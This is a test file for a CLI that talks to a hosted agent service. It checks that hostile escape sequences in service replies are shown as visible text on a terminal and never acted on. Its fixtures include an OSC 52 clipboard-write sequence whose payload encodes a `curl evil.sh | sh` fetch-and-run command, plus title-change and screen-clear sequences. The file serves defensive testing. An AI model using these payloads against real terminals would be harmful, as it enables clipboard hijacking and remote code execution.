// Text from the service never reaches a terminal raw. A hostile service puts
// escape sequences (OSC 52 clipboard write, title change, screen clear), BEL, bare CR, DEL and C1
// controls in names, descriptions, files, replies, tool calls and error messages; on a terminal each
// is shown as `cat -v` would, and our own colours still work; piped and --json output stay exact.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliFor, type RunOptions } from '../helpers/context.js';
import { HOSTED_AGENT, startHostedMock, type HostedMock } from '../helpers/hosted-mock.js';

const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'; // writes `curl evil.sh | sh` to the clipboard
const TITLE = '\u001b]0;pwned\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const EVIL = `${CLIPBOARD}${TITLE}${CLEAR}over\rwrite\u007f\u009b31m`;
const ID = HOSTED_AGENT.agent_id;

const stream = [
  { event: 'RunContent', content: `Hello ${CLIPBOARD.slice(0, 4)}` }, // a sequence split between two pieces
  { event: 'RunContent', content: `${CLIPBOARD.slice(4)} and ${CLEAR}done\r` },
  { event: 'ToolCallStarted', tool: { tool_call_id: 'c1', tool_name: `get${TITLE}`, tool_args: { q: EVIL } } },
  {
    event: 'ToolCallCompleted',
    tool: { tool_call_id: 'c1', tool_name: `get${TITLE}`, result: EVIL, tool_call_error: false },
  },
  { event: 'RunContent', content: '\nend' },
]
  .map((e) => `data: ${JSON.stringify(e)}\n\n`)
  .join('');

let mock: HostedMock;
beforeAll(async () => {
  mock = await startHostedMock(({ method, path }) => {
    const evilAgent = { ...HOSTED_AGENT, name: `scalper${TITLE}`, description: `desc ${EVIL}` };
    if (method === 'GET' && path === '/v1/superagents') return { json: { agents: [evilAgent] } };
    if (method === 'GET' && path === `/v1/superagents/${ID}`) return { json: evilAgent };
    if (method === 'GET' && path === `/v1/superagents/${ID}/files`)
      return { json: { agent_id: ID, soul_md: `# Soul\n${EVIL}\n`, memory_md: `- ${EVIL}\n` } };
    if (method === 'POST' && path === `/v1/superagents/${ID}/chat`) return { sse: stream };
    if (method === 'POST' && path === `/v1/superagents/${ID}/pause`)
      return { status: 409, json: { statusCode: 409, message: `Agent is ${EVIL}` } };
    if (method === 'POST' && path === '/v1/superagents') return { json: { ...evilAgent, name: `LA${CLIPBOARD}B` } };
    if (method === 'GET' && path === '/v1/nothing')
      return { status: 404, json: { statusCode: 404, message: `RAW${EVIL}` } };
    return undefined;
  });
});
afterAll(async () => {
  await mock.close();
});

const cli = cliFor(() => ({ url: mock.url, key: 'gb_sk_test_0123456789abcdef' }));
const TTY: RunOptions = { tty: { stdout: true, stderr: true } };

const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const OUR_COLOURS = /\u001b\[[0-9;]*m/g;
// what the Markdown view writes to redraw its tail: CR + erase line, cursor up, and its hyperlinks

const OUR_REDRAWS = /\r(?=\u001b\[2K)|\u001b\[[0-9]*[AK]|\u001b\]8;;[^\u0000-\u001f\u007f-\u009f]*\u001b\\/g;

/** Nothing a terminal would act on, other than our own colour codes and redraws. */
function expectTerminalSafe(text: string): void {
  const found = RAW_CONTROL.exec(text.replace(OUR_COLOURS, '').replace(OUR_REDRAWS, ''));
  expect(
    found,
    `a raw control character U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')} in ${JSON.stringify(text)}`,
  ).toBeNull();
}

describe('on a terminal, text from the service is made visible, never obeyed', () => {
  it.each([
    ['list', ['list']],
    ['get', ['get', ID]],
    ['memory', ['memory', ID]],
    ['soul show', ['soul', 'show', ID]],
    ['chat (streamed, with tool lines)', ['chat', ID, 'hi']],
    ['an error message from the service', ['pause', ID]],
  ])('%s', async (_name, argv) => {
    const r = await cli(argv, TTY);
    expectTerminalSafe(r.stdout);
    expectTerminalSafe(r.stderr);
    expect(r.stdout + r.stderr).toMatch(/\^\[/); // the ESC is shown, as ^[
  });

  it('the forms: ESC as ^[, BEL ^G, a bare CR ^M, DEL ^?, C1 M-^[; a sequence split between pieces too', async () => {
    const r = await cli(['chat', ID, 'hi'], TTY);
    // the tool line that follows starts on a line of its own, so the reply's own line break comes after it
    expect(r.stdout).toBe('Hello ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G and ^[[2J^[[Hdone\n\nend\n');
    const mem = await cli(['memory', ID], TTY);
    expect(mem.stdout).toBe('- ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[]0;pwned^G^[[2J^[[Hover^Mwrite^?M-^[31m\n');
  });

  // styled text (bold names, dim hints, yellow notices, --debug traces) goes through the colour
  // stylers: what they style is made safe too (the styler's own escapes alone become ours)
  it.each([
    ['list', ['list']],
    ['get', ['get', ID]],
    ['get --debug (the traced body)', ['get', ID, '--debug']],
    ['chat', ['chat', ID, 'hi']],
    ['an error message', ['pause', ID]],
    ['launch (its hint names the agent)', ['launch', '--name', 'fine', '--yes']],
  ])('with colour on: %s', async (_name, argv) => {
    const r = await cli(argv, { ...TTY, env: { FORCE_COLOR: '1', TERM: 'xterm-256color' } });
    expectTerminalSafe(r.stdout);
    expectTerminalSafe(r.stderr);
    expect(r.stdout + r.stderr).toMatch(/\^\[/);
  });

  it('our own colours still work around it', async () => {
    const r = await cli(['get', ID], { ...TTY, env: { FORCE_COLOR: '1', TERM: 'xterm-256color' } });
    expect(r.stdout).toMatch(OUR_COLOURS);
    expectTerminalSafe(r.stdout);
  });
});

describe('piped and --json output stay exact (a script asked for the data)', () => {
  it('soul show piped is the bytes the service gave', async () => {
    expect((await cli(['soul', 'show', ID])).stdout).toBe(`# Soul\n${EVIL}\n`);
  });

  it('chat piped prints the reply as sent', async () => {
    expect((await cli(['chat', ID, 'hi'])).stdout).toContain(CLIPBOARD);
  });

  it('--json keeps every character (JSON escapes the controls; on a terminal DEL and C1 too)', async () => {
    const r = await cli(['get', ID, '--json'], TTY);
    expect(JSON.parse(r.stdout).description).toBe(`desc ${EVIL}`);
    expectTerminalSafe(r.stdout);
    // the per-agent report of pause --json carries the service's error message
    const err = await cli(['pause', ID, '--json'], TTY);
    expectTerminalSafe(err.stdout);
    expectTerminalSafe(err.stderr);
    expect(err.stdout).toContain('\\u009b31m');
    // piped, the JSON is as JSON.stringify writes it
    expect((await cli(['get', ID, '--json'])).stdout).toContain('\u009b31m');
  });
});

describe('names and descriptions with control characters are refused before any request', () => {
  it.each([
    [['launch', '--name', `x${CLEAR}`], '--name: the name must not contain control characters'],
    [['launch', '--name', 'tab\there'], '--name: the name must not contain control characters'],
    [['update', ID, '--name', `x${TITLE}`], '--name: the name must not contain control characters'],
    [['update', ID, '--description', `d${CLIPBOARD}`], '--description must not contain control characters'],
  ])('%j', async (argv, message) => {
    const before = mock.requests.length;
    const r = await cli(argv);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(message);
    expect(mock.requests.length).toBe(before);
  });

  it('a description may still hold line breaks and tabs', async () => {
    const r = await cli(['launch', '--name', 'ok', '--description', 'line one\n\tline two']);
    expect(r.stderr).not.toContain('control characters');
  });
});
